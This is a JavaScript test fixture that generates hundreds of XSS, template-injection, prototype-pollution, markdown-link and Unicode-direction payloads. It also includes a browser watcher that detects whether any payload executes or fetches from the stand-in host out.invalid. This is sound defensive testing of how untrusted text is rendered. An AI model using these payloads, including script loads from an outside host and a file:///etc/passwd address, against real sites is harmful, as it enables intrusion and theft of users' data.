// Texts that would do something if they were taken for more than text: script, markdown, turns of direction, controls.
//
// Out: more than 300, each different. What runs calls `executed()`; what fetches asks `out.invalid`.

const RUN = 'executed()';
const OUT = 'https://out.invalid/x';

const HANDLERS = [
  (tag) => `<${tag} src=x onerror=${RUN} onload=${RUN}>`,
  (tag) => `<${tag.toUpperCase()} STYLE="animation:x" ONANIMATIONSTART="${RUN}" autofocus onfocus='${RUN}' tabindex=1>`,
  (tag) => `"><${tag}/onpointerover=${RUN} src="${OUT}" href="${OUT}" data="${OUT}" poster="${OUT}">`,
  (tag) => `<${tag}\nonpointerenter\n=\n"${RUN}"\tonerror\n=\n${RUN} src //`,
];
const TAGS = 'img svg video audio input iframe object embed details body marquee select textarea math a form'.split(
  ' ',
);

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script src=${OUT}></script>`,
  `<script type=module>import '${OUT}'</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title></style></noscript><script>${RUN}</script>`,
  `<!--><script>${RUN}</script-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<style>@import '${OUT}'; * { background: url(${OUT}) }</style>`,
  `<link rel=stylesheet href=${OUT}>`,
  `<link rel=prefetch href=${OUT}>`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<base href="${OUT}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `';${RUN}//`,
  `"-${RUN}-"`,
  `\`;${RUN}//`,
  `');${RUN}//`,
  `</script><script>${RUN}</script>`,
  `data: ${RUN}\n\nevent: note_saved\ndata: {}\n\n`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  '__proto__',
  'constructor',
  'referent-note-pane" onfocus="executed()',
];

const ADDRESSES = [
  ...['javascript:', 'JaVaScRiPt:', 'java\nscript:', ' javascript:', 'vbscript:'].map((scheme) => `${scheme}${RUN}`),
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  OUT,
  '//out.invalid/x',
  'file:///etc/passwd',
];
const LINKS = [
  (address) => address,
  (address) => `<a href="${address}">her</a>`,
  (address) => `[her](${address})`,
  (address) => `![billede](${address})`,
  (address) => `<${address}>`,
  (address) => `[her][1]\n\n[1]: ${address}`,
];

const MARKDOWN = [
  '# Overskrift',
  '**fed** _kursiv_ ~~slettet~~ `kode`',
  '> citat\n>> i citat',
  '- [ ] opgave\n- [x] udført',
  '1. et\n2. to',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '```html\n<script>executed()</script>\n```',
  '---\ntitle: x\n---',
  '[^1]\n\n[^1]: fodnote',
  '<details open ontoggle=executed()><summary>x</summary></details>',
  '$$\\href{javascript:executed()}{x}$$',
  ':::warning\nx\n:::',
  '<kbd onclick=executed()>x</kbd>',
  '\\<img src=x onerror=executed()>',
  '=HYPERLINK("https://out.invalid/x")',
  '@import url(https://out.invalid/x)',
];

const DIRECTIONS = '\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
const TURNED = [
  (turn) => `Beløbet er ${turn}0054${turn} kroner.`,
  (turn) => `${turn}Borgeren siger nej.`,
  (turn) => `Sagen ${turn}<img src=x onerror=executed()>${turn} er lukket.`,
];
const RIGHT_TO_LEFT = ['שלום <script>executed()</script>', 'مرحبا [x](javascript:executed())', 'a א b ב 1 2 3'];

const codes = (from, to) => Array.from({ length: to - from + 1 }, (_, at) => from + at);
const ODD = [
  ...codes(0x00, 0x08),
  ...codes(0x0b, 0x0c),
  ...codes(0x0e, 0x1f),
  ...codes(0x7f, 0x9f),
  ...[0xad, 0x034f, 0x115f, 0x1160, 0x180e, 0x200b, 0x200c, 0x2060, 0x2061, 0x3164, 0xfeff, 0xfff9, 0xfffb],
  ...[0x2028, 0x2029, 0xe0001, 0xe0041, 0xe007f, 0xd800, 0xdfff, 0xfffe, 0x1d173],
].map((code) => `Kon${String.fromCodePoint(code)}trol <b onclick=executed()>${code.toString(16)}</b>`);

const LONG = [
  `${'<div>'.repeat(2_000)}`,
  'x'.repeat(20_000),
  'e\u0301\u0302\u0303'.repeat(500),
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}',
];

export const PAYLOADS = [
  ...TAGS.flatMap((tag) => HANDLERS.map((make) => make(tag))),
  ...SCRIPTS,
  ...ADDRESSES.flatMap((address) => LINKS.map((make) => make(address))),
  ...MARKDOWN,
  ...[...DIRECTIONS].flatMap((turn) => TURNED.map((make) => make(turn))),
  ...RIGHT_TO_LEFT,
  ...ODD,
  ...LONG,
].filter((payload, at, all) => all.indexOf(payload) === at);

/** Whether anything that a page was given ran, or asked for something elsewhere. */
export class Watch {
  executed = 0;
  out = [];

  /** On everything that the pages of a window do; `origin` is the server's. */
  static async over(context, origin) {
    const watch = new Watch();
    await context.exposeBinding('executed', () => {
      watch.executed += 1;
    });
    await context.route(
      (url) => url.origin !== origin && url.protocol !== 'data:',
      (route) => {
        watch.out.push(route.request().url());
        return route.abort();
      },
    );
    return watch;
  }
}
